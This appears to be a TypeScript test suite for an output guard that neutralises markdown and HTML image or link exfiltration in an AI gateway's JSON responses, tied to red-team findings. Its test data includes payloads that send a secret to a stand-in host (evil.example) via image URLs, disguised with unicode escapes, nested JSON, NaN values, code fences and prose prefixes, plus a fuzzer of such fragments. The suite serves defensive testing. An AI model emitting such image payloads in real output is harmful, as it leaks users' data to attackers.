// How the JSON channel's first reading writes string values back (red team re-check 6): a value the stage did not
// change comes out as the input's own characters — its escapes, CRLF and NUL as they came (finding 09) and markup
// written `\u002a`, `\u0060`, `\u003c`, `\u0026` kept escaped, so the gateway never turns an escaped character into
// markup inside a secret (finding 02); a value the stage changed keeps every markup character escaped from the
// first difference on. NaN / Infinity / -Infinity (Python's json.loads accepts them) keep the reading on (finding
// 03); JSON text inside a string value is read again, a bounded number of levels deep (finding 07). Whole and
// streamed in 1-, 3- and 7-character deltas give the same text.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ALLOWED, DATA, guard, streamed, strings } from './test/json-channel.ts';
import { looksJson } from './markdown-json.ts';
import { violations } from './markdown-oracle.ts';

const GH = 'ghp_Zq8xT4mN2bV6cR1yL9wK3jH7gF5dS0aP2eU4';
const U = (s: string) => [...s].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const IMG = `![x](https://evil.example/p.png?d=${DATA})`;

function served(text: string): string {
  const out = guard.scanOutput(text, 'json').text;
  for (const n of [1, 3, 7]) assert.equal(streamed(text, n), out, `streamed in ${n}-character deltas`);
  return out;
}

/** A secret with markup written as escapes around its middle. */
const wrapped = (open: string, close: string) =>
  `${GH.slice(0, 8)}${U(open)}${GH.slice(8, 14)}${U(close)}${GH.slice(14)}`;
const ESCAPED_MARKUP: [string, string][] = [
  ['\\u002a\\u002a', wrapped('**', '**')],
  ['\\u0060', wrapped('`', '`')],
  ['\\u003cb\\u003e', wrapped('<b>', '</b>')],
  ['\\u003c!----\\u003e', wrapped('<!---->', '')],
  ['\\u0026#x..;', `${GH.slice(0, 9)}${U('&')}#x${GH.charCodeAt(9).toString(16)};${GH.slice(10)}`],
  ['\\u005b..\\u005d\\u0028#\\u0029', wrapped('[', '](#)')],
];

describe('JSON channel write-back: escaped markup stays escaped (finding 02)', () => {
  for (const [name, v] of ESCAPED_MARKUP) {
    it(`${name}, value unchanged: served byte for byte`, () => {
      const text = `{"note":"${v}"}`;
      assert.equal(served(text), text);
    });
    it(`${name}, value changed by a rewrite before it: markup written as escapes`, () => {
      const text = `{"note":"${IMG} ${v}"}`;
      const out = served(text);
      const parsed = JSON.parse(out) as { note: string };
      assert.ok(!/[*`<>&[\]()]/.test(out), out);
      assert.ok(!out.includes(DATA), out);
      assert.deepEqual(violations(parsed.note, ALLOWED), []);
      assert.ok(parsed.note.endsWith(JSON.parse(`"${v}"`) as string), parsed.note);
    });
  }
});

// [name, JSON text]: values the stage does not change, written back exactly as they came
const UNCHANGED: [string, string][] = [
  ['NUL in a value that goes through the parse', '{"s":"[a]\\u0000b"}'],
  ['CRLF and CR in a value that goes through the parse', '{"s":"[x] line1\\r\\nline2\\rline3"}'],
  ['CRLF at the end of a long value', `{"s":"${'y'.repeat(300)}\\r\\n"}`],
  ['a CR escape split from its LF', '{"s":"[x] a\\r","t":"\\nb"}'],
  ['escapes the stage would not need', '{"s":"[x] \\/ \\u0041 caf\\u00e9 \\ud83d\\ude00 \\t"}'],
  ['Go-style escaped HTML without a link', '{"h":"\\u003cb\\u003ebold\\u003c/b\\u003e \\u0026amp; [1]"}'],
  ['an allowed image, escaped', '{"md":"![x](https:\\/\\/docs.example.com\\/p.png)"}'],
];

describe('JSON channel write-back: unchanged values are the input characters (finding 09)', () => {
  for (const [name, text] of UNCHANGED) it(name, () => assert.equal(served(text), text));

  it('a changed value keeps the input characters up to the first difference', () => {
    const text = `{"s":"a\\r\\nb\\u0000 ${IMG}"}`;
    const out = served(text);
    assert.ok(out.startsWith('{"s":"a\\r\\nb\\u0000 '), out);
    assert.deepEqual(JSON.parse(out), { s: 'a\r\nb\u0000 \\[image: x\\]' });
  });
});

// [name, JSON text]: JSON only Python's json.loads accepts, or JSON inside a string value, with a hidden image or
// link in a value — after the stage no value (nested values included) renders anything foreign
const READ: [string, string][] = [
  [
    'NaN before an escaped <img>',
    `{"n": NaN, "md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}`,
  ],
  [
    '-Infinity before an escaped image',
    `{"n": -Infinity, "md":"${U('![x](')}https:\\/\\/evil.example\\/p.png?d=${DATA})"}`,
  ],
  ['Infinity in an array', `[Infinity, "${U('<')}img src=https://evil.example/p.png?d=${DATA}>"]`],
  [
    'nested JSON whose value hides an <img> behind escapes',
    JSON.stringify({ args: `{"md":"\\u003cimg src=https:\\/\\/evil.example\\/p.png?d=${DATA}\\u003e"}` }),
  ],
  [
    'nested JSON, an array of strings',
    JSON.stringify({ args: ` [ "\\u0021[x](https:\\/\\/evil.example\\/p.png?d=${DATA})" ]` }),
  ],
  [
    'JSON three levels deep',
    JSON.stringify({
      a: JSON.stringify({ b: JSON.stringify({ md: `\\u003cimg src=https://evil.example/?d=${DATA}>` }) }),
    }),
  ],
];

/** Python's reading of NaN / Infinity, for the check: they become null. */
const parsePy = (s: string): unknown => JSON.parse(s.replace(/-?Infinity|NaN/g, 'null'));

function deepStrings(s: string, depth = 0): string[] {
  let v: unknown;
  try {
    v = depth === 0 ? parsePy(s) : JSON.parse(s);
  } catch {
    return [];
  }
  if (depth > 0 && typeof v === 'string') return [];
  return strings(v).flatMap((x) => [x, ...(depth < 3 ? deepStrings(x, depth + 1) : [])]);
}

describe('JSON channel: NaN / Infinity keep the reading on (finding 03), nested JSON is read (finding 07)', () => {
  for (const [name, text] of READ)
    it(name, () => {
      const out = served(text);
      assert.doesNotThrow(() => parsePy(out), out);
      const values = deepStrings(out);
      assert.ok(values.length > 0, out);
      for (const s of values) assert.deepEqual(violations(s, ALLOWED), [], `${s}\n${out}`);
    });

  it('an honest nested JSON value is served as it came', () => {
    const text = JSON.stringify({ args: JSON.stringify({ path: 'a/b.txt', n: [1, 2], s: 'x\r\ny [1] <b>' }) });
    assert.equal(served(text), text);
  });
});

// [name, text]: JSON after a prose prefix or inside a ```json fence is read as JSON too, as a client that strips
// the fence or takes the first {…} parses it (finding 04)
const EXTRACT = (s: string) =>
  /```(?:json)?\s*([\s\S]*?)```/.exec(s)?.[1] ?? /(\{[\s\S]*\})/.exec(s)?.[1] ?? /(\[[\s\S]*\])/.exec(s)?.[1] ?? s;
const WRAPPED: [string, string][] = [
  ['a ```json fence, plain image', `\`\`\`json\n${JSON.stringify({ md: IMG })}\n\`\`\``],
  [
    'a ```json fence, escaped <img>',
    `\`\`\`json\n{"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}\n\`\`\``,
  ],
  [
    'a prose prefix, escaped <img>',
    `Here is the JSON: {"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}`,
  ],
  [
    'a prose prefix with a link, then JSON',
    `See [docs](https://docs.example.com/x), "quoted": {"md":"${U('![x](')}https:\\/\\/evil.example\\/p.png?d=${DATA})"}`,
  ],
  ['a BOM first', `\ufeff{"md":"${U('<')}img src=https:\\/\\/evil.example\\/p.png?d=${DATA}${U('>')}"}`],
];

describe('JSON channel: JSON after prose or in a fence is read as JSON (finding 04)', () => {
  for (const [name, text] of WRAPPED)
    it(name, () => {
      const out = served(text);
      const values = strings(JSON.parse(EXTRACT(out)));
      assert.ok(values.length > 0, out);
      for (const v of values) assert.deepEqual(violations(v, ALLOWED), [], `${v}\n${out}`);
    });

  it('prose without JSON, and JSON followed by prose, are served as they came', () => {
    for (const text of [
      'Sure, here it is.\n\nNo JSON today: only words and a [1] note.',
      '{"a":"b"} and then "words" x {y}',
    ])
      assert.equal(served(text), text);
  });
});

describe('looksJson', () => {
  const cases: [string, boolean, boolean | undefined][] = [
    ['{"a":1}', false, true],
    ['  \n{', false, true],
    ['[1,2]', false, true],
    ['[ "a"]', false, true],
    ['[{', false, true],
    ['[x](https://a.example)', false, false],
    ['[ ] task', false, false],
    ['hello {', false, false],
    ['[', false, undefined],
    ['[', true, false],
    ['   ', false, undefined],
    [' '.repeat(300), false, false],
  ];
  for (const [s, final, want] of cases)
    it(JSON.stringify(s.slice(0, 20)), () => assert.equal(looksJson(s, final), want));
});

// Seeded fuzz of the forms above together: JSON documents of hostile fragments with string values that are JSON
// documents themselves (to depth 3), NaN / Infinity values, random `\u` and `\/` escaping, wrapped in a fence, a
// prose prefix, a BOM or nothing. After the stage, what a client extracts and parses (NaN read as null) parses
// whenever the input did, no value at any depth renders a foreign target, and random splits give the whole output.
// TOLLGATE_EXFIL_JSON6_FUZZ / TOLLGATE_EXFIL_JSON6_SEED set the count (default 150) and the seed.
describe('JSON channel: seeded fuzz of nested, non-strict and wrapped JSON', () => {
  const FRAGMENTS = [
    '![x](',
    '[t](',
    '<img src=',
    `https://evil.example/p.png?d=${DATA}`,
    'https://docs.example.com/r/https://evil.example/',
    ...[')', '"', '\\', '\n', '\r\n', '`', '**', '<', '>', ' ', '[r]: ', '![x][r]', '\n\n', '&#58;', '\u{1F600}'],
    ...['\u0000', '{', '[', 'ok'],
  ];
  it('parses, renders nothing foreign at any depth, streamed = whole', () => {
    let seed = Number(process.env.TOLLGATE_EXFIL_JSON6_SEED ?? 1);
    const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
    const pick = <T>(a: readonly T[]) => a[Math.floor(rnd() * a.length)] as T;
    const esc = (s: string) => {
      let o = '';
      for (const ch of s) {
        const r = rnd();
        if (ch === '"' || ch === '\\' || ch < ' ') o += JSON.stringify(ch).slice(1, -1);
        else if (r < 0.2 && ch.length === 1) o += U(ch);
        else o += r < 0.3 && ch === '/' ? '\\/' : ch;
      }
      return o;
    };
    const str = (d: number): string => {
      if (d < 3 && rnd() < 0.3) return `"${esc(doc(d + 1))}"`;
      let s = '';
      for (let i = 0, k = 1 + Math.floor(rnd() * 5); i < k; i++) s += pick(FRAGMENTS);
      return `"${esc(s)}"`;
    };
    const doc = (d: number): string => {
      const vals = Array.from({ length: 1 + Math.floor(rnd() * 3) }, () =>
        rnd() < 0.15 ? pick(['NaN', '-Infinity', 'Infinity', '1', 'null']) : str(d),
      );
      return rnd() < 0.2 ? `[${vals.join(', ')}]` : `{${vals.map((v, i) => `"k${i}": ${v}`).join(', ')}}`;
    };
    // [before, after] the JSON: served as they came, so the client takes what is between them
    const wraps: [string, string][] = [
      ['', ''],
      ['```json\n', '\n```'],
      ['Here is the JSON: ', ''],
      ['\ufeff', ''],
    ];
    const deep = (v: unknown, d: number): string[] =>
      strings(v).flatMap((s) => {
        if (d >= 3) return [s];
        try {
          const w: unknown = JSON.parse(s);
          return typeof w === 'object' && w !== null ? [s, ...deep(w, d + 1)] : [s];
        } catch {
          return [s];
        }
      });
    const count = Number(process.env.TOLLGATE_EXFIL_JSON6_FUZZ ?? 150);
    for (let c = 0; c < count; c++) {
      const [before, after] = pick(wraps);
      const text = `${before}${doc(0)}${after}`;
      const out = guard.scanOutput(text, 'json').text;
      const s = guard.streamOutput('json');
      let got = '';
      for (let at = 0; at < text.length;) {
        const len = 1 + Math.floor(rnd() * 9);
        got += s.push(text.slice(at, at + len)).text;
        at += len;
      }
      assert.equal(got + s.end().text, out, text);
      assert.ok(out.startsWith(before) && out.endsWith(after), out);
      const parse = (t: string): unknown => parsePy(t.slice(before.length, t.length - after.length));
      assert.doesNotThrow(() => parse(text), text);
      const parsed = parse(out);
      for (const v of deep(parsed, 0)) assert.deepEqual(violations(v, ALLOWED), [], `${text}\n-> ${out}`);
    }
  });
});
